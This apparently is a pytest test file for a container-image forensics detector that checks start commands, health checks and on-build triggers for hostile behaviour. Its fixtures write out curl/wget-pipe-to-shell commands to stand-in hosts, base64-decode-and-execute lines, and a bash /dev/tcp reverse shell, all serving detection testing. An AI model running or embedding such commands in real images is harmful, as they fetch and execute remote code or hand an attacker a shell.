"""Start commands that fetch, decode, or run from places where nothing belongs."""

from __future__ import annotations

import pytest

from forensics.detectors import Scene
from forensics.detectors.start_command import DETECTOR
from forensics.model.findings import Finding
from forensics.model.image import Image
from tests.scenes import config


def judge(**values: object) -> list[Finding]:
    return list(
        DETECTOR.detect(Scene(image=Image(source="x", reference="x", config=config(**values)), rules={}))
    )


def said(found: list[Finding]) -> list[tuple[str, str]]:
    return [(one.rule_id, str(one.severity)) for one in found]


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (
            {"entrypoint": ("/bin/sh", "-c", "curl http://a.invalid/i | sh")},
            [("start/command-fetches", "critical")],
        ),
        (
            {"entrypoint": ("sh", "-c"), "cmd": ("wget -qO- http://a.invalid | bash",)},
            [("start/command-fetches", "critical")],
        ),
        (
            {"entrypoint": ("/docker-entrypoint.sh",), "cmd": ("sh", "-c", "curl http://a.invalid/i | sh")},
            [("start/command-fetches", "critical")],
        ),
        (
            {"cmd": ("sh", "-c", "wget -O /opt/p http://192.0.2.7/p; chmod +x /opt/p; /opt/p")},
            [("start/command-fetches", "critical")],
        ),
        (
            {"cmd": ("sh", "-c", "curl -fsSL https://get.docker.com | sh")},
            [("start/command-fetches", "high")],
        ),
        ({"cmd": ("sh", "-c", "echo aGk= | base64 -d | sh")}, [("start/command-decodes", "critical")]),
        (
            {"cmd": ("python3", "-c", "import base64; exec(base64.b64decode('aGk='))")},
            [("start/command-decodes", "critical")],
        ),
        (
            {"cmd": ("bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/99 0>&1")},
            [("start/remote-shell", "critical")],
        ),
        ({"entrypoint": ("/tmp/.x/run",)}, [("start/hostile-place", "high")]),
        ({"cmd": ("/usr/lib/.cache/x/kworker", "-q")}, []),
        ({"cmd": ("/usr/lib/.x/kworker", "-q")}, [("start/hostile-place", "high")]),
        ({"healthcheck": ("CMD-SHELL", "curl http://a.invalid/i | sh")}, [("start/command-fetches", "high")]),
        (
            {"healthcheck": ("CMD", "sh", "-c", "curl http://a.invalid/i | sh")},
            [("start/command-fetches", "high")],
        ),
        ({"on_build": ("RUN curl http://a.invalid/i | sh",)}, [("start/command-fetches", "high")]),
    ],
)
def test_hostile_starts(values: dict[str, object], expected: list[tuple[str, str]]) -> None:
    assert said(judge(**values)) == expected


@pytest.mark.parametrize(
    "values",
    [
        {},
        {"entrypoint": ("/docker-entrypoint.sh",), "cmd": ("nginx", "-g", "daemon off;")},
        {"cmd": ("bash",)},
        {"cmd": ("/bin/sh", "-c", "exec java -jar /app.jar")},
        {"cmd": ("sh", "-c", "curl http://localhost:8080/x | sh")},
        {"healthcheck": ("CMD-SHELL", "curl -f http://localhost/ || exit 1")},
        {"healthcheck": ("NONE",)},
        {"on_build": ("COPY . /app", "RUN npm install")},
    ],
)
def test_good_starts(values: dict[str, object]) -> None:
    assert judge(**values) == []


def test_evidence_names_the_field_and_is_printable() -> None:
    (found,) = judge(entrypoint=("sh", "-c", "curl http://a.invalid/\x1b[31m | sh"))
    assert found.evidence[0].kind == "config"
    assert found.evidence[0].text.startswith("Entrypoint: sh -c curl http://a.invalid/\\x1b[31m")
    assert found.path is None
    assert found.layer is None
    assert found.explanation
    assert found.remediation
    assert found.alternatives
